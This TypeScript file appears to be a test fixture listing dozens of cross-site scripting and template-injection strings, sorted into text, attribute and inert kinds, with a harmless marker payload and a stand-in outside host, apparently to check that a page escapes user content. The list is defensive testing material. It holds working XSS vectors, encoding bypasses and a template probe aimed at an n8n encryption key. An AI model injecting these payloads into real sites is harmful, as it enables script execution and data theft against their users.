/**
 * Strings that try to become more than text. `text`: raw between tags they run, load or add an element. `attribute`: raw
 * within double quotes they break out. `inert`: only a further evaluation (a template engine, a second decoding, a link)
 * would bring them to life, so that they have to be shown exactly as they are.
 */
export interface Injection {
	kind: 'text' | 'attribute' | 'inert';
	text: string;
}

/** What a payload does when it runs; the watched page counts it. */
const run = 'window.__pwned=1';
/** No page asks for anything there. */
const outside = 'https://outside.test';

const between = [
	`<script>${run}</script>`,
	`<SCRIPT>${run}</SCRIPT>`,
	`<ScRiPt >${run}</ScRiPt >`,
	`<script src=${outside}/a.js></script>`,
	`<script\n>${run}</script\n>`,
	`<script/x>${run}</script>`,
	`<script type=module>${run}</script>`,
	`</title><script>${run}</script>`,
	`</style><script>${run}</script>`,
	`</textarea><script>${run}</script>`,
	`</td></tr></table><script>${run}</script>`,
	`</code></span></body></html><script>${run}</script>`,
	`<scr<script>ipt>${run}</scr</script>ipt>`,
	`<<script>${run}//<</script>`,
	`<img src=x onerror=${run}>`,
	`<img src=x onerror="${run}">`,
	`<img/src=x/onerror=${run}>`,
	`<img src=x:x onerror\t=\t${run}>`,
	`<img src="x\` \`<script>${run}</script>"\` \`>`,
	`<IMG SRC=x ONERROR="window['__pw'+'ned']=1">`,
	`<img src=${outside}/pixel.gif>`,
	`<img srcset="${outside}/1.png 1x">`,
	`<svg onload=${run}>`,
	`<svg><script>${run}</script></svg>`,
	`<svg><script>window.__p&#119;ned=1</script></svg>`,
	`<svg><animate onbegin=${run} attributeName=x dur=1s>`,
	`<svg><set attributeName=x onbegin=${run}>`,
	`<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
	`<svg><use href="${outside}/a.svg#x"/></svg>`,
	`<svg><foreignObject><iframe srcdoc="<script>parent.__pwned=1</script>"></iframe></foreignObject></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
	`<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
	`<iframe src="javascript:parent.__pwned=1"></iframe>`,
	`<iframe src=${outside}/frame></iframe>`,
	`<object data="${outside}/o"></object>`,
	`<embed src="${outside}/e">`,
	`<meta http-equiv=refresh content="0;url=${outside}/m">`,
	`<meta http-equiv="Content-Security-Policy" content="script-src *">`,
	`<base href="${outside}/">`,
	`<link rel=stylesheet href="${outside}/s.css">`,
	`<link rel=prefetch href="${outside}/p">`,
	`<style>@import '${outside}/i.css';</style>`,
	`<style>body{background:url(${outside}/b.png)}</style>`,
	`<p style="background-image:url(${outside}/c.png)">x</p>`,
	`<p style="width:expression(${run})">x</p>`,
	`<body onload=${run}>`,
	`<body background="${outside}/bg.png">`,
	`<input autofocus onfocus=${run}>`,
	`<details open ontoggle=${run}><summary>x</summary></details>`,
	`<video><source onerror=${run}></video>`,
	`<audio src=x onerror=${run}></audio>`,
	`<marquee onstart=${run}>x</marquee>`,
	`<a href="javascript:${run}">x</a>`,
	`<a href="java\tscript:${run}">x</a>`,
	`<a href="&#106;avascript:${run}">x</a>`,
	`<form action="javascript:${run}"><button>x</button></form>`,
	`<button formaction="javascript:${run}">x</button>`,
	`<div onpointerover=${run} onmouseover=${run}>x</div>`,
	`<template><script>${run}</script></template>`,
	`<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
	`<!--<img src="--><img src=x onerror=${run}//">`,
	`<!-- <!-- --><script>${run}</script> -->`,
	`<![CDATA[<script>${run}</script>]]>`,
	`<?xml version="1.0"?><script>${run}</script>`,
	`<x onclick=${run} tabindex=1 autofocus onfocus=${run}>x</x>`,
	`<p id=__pwned name=__pwned>clobbered</p>`,
	`<table><tr><td>one more cell</td></tr></table>`,
];

const quoted = [
	`"><script>${run}</script>`,
	`" onmouseover="${run}`,
	`" autofocus onfocus="${run}" tabindex="1`,
	`" style="background:url(${outside}/q.png)`,
	`"><img src=x onerror=${run}>`,
	`"/><svg/onload=${run}>`,
];

const inert = [
	`'><b`,
	`' onmouseover='${run}`,
	`\`\${${run}}\``,
	`\${7*7}`,
	`#{7*7}`,
	`{{ 7*7 }}`,
	`{{{7*7}}}`,
	`={{ $env.N8N_ENCRYPTION_KEY }}`,
	`{{ $('Settings').first().json }}`,
	`{{constructor.constructor('${run}')()}}`,
	`<%= 7*7 %`,
	`[[${run}]]`,
	`$& $1 $\` $' $$`,
	`javascript:${run}`,
	`data:text/html,%3Cscript%3E${run}%3C/script%3E`,
	`&lt;script&gt;${run}&lt;/script&gt;`,
	`&#60;script&#62;${run}&#60;/script&#62;`,
	`&#x3c;img src=x onerror=${run}&#x3e;`,
	`&amp;lt;script&amp;gt;`,
	`%3Cscript%3E${run}%3C/script%3E`,
	`\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
	`\\x3cscript\\x3e${run}`,
	`\uff1cscript\uff1e${run}\uff1c/script\uff1e`,
	`\u02c2script\u02c3${run}`,
	`\u202e>tpircs<\u202c`,
	`+ADw-script+AD4-${run}+ADw-/script+AD4-`,
	`\u2028${run}\u2029//`,
	`];${run};//`,
	`*/${run}/*`,
	`}body{background:red`,
	`--></`,
];

export const injections: Injection[] = [
	...between.map((text) => ({ kind: 'text' as const, text })),
	...quoted.map((text) => ({ kind: 'attribute' as const, text })),
	...inert.map((text) => ({ kind: 'inert' as const, text })),
];
